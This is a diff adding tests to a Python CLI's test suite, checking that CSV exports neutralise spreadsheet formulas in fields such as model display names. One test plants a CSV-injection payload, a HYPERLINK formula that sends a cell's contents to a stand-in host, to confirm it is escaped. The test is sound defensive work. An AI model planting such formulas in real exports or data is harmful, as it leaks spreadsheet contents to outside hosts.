@@ -9,13 +9,17 @@ from collections.abc import Callable
 from decimal import Decimal
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from sqlalchemy import create_engine, inspect
 
 from modelctl.core.models.query import COLUMNS
 from modelctl.db.read import MODEL_COLUMNS
 from modelctl.output.console import Look
+from modelctl.output.format import csv_text
+from tests.cli.conftest import Query
 from tests.cli.shop import fill
-from tests.conftest import Result
+from tests.conftest import Result, Run
 from tests.databases import empty_database
 
 
@@ -287,3 +291,23 @@ def test_a_list_loads_no_sdk_and_no_migrations(url):
     )
     loaded = set(done.stderr.split())
     assert not loaded & {"alembic", "openai", "anthropic", "google.genai", "replicate", "rich.console", "httpx"}
+
+
+@given(text=st.text(st.sampled_from("=+-@\t\r\n ;,'\"1.e()Aé|!"), max_size=12))
+def test_no_field_of_csv_is_a_formula(text: str) -> None:
+    told = csv_text(text)
+    assert told in (text, f"'{text}")
+    assert told[:1] not in tuple("=@\t\r")
+    if told[:1] in ("+", "-"):
+        float(told)
+
+
+def test_a_spreadsheet_runs_nothing_that_a_name_holds(run: Run, sqlite_url: str, query: Query) -> None:
+    assert run("sync", "xai", "--source", "catalog", "--database", sqlite_url).code == 0
+    formula = '=HYPERLINK("http://x.test?"&A1)'
+    query(sqlite_url, "UPDATE ai_models SET display_name = :name WHERE model_id = 'grok-4.5'", name=formula)
+    argv = ("list", "xai", "--database", sqlite_url, "--columns", "model_id,display_name", "--format")
+    rows = dict(csv.reader(run(*argv, "csv").stdout.splitlines()))
+    assert rows["grok-4.5"] == f"'{formula}"
+    listed = {each["model_id"]: each["display_name"] for each in json.loads(run(*argv, "json").stdout)}
+    assert listed["grok-4.5"] == formula
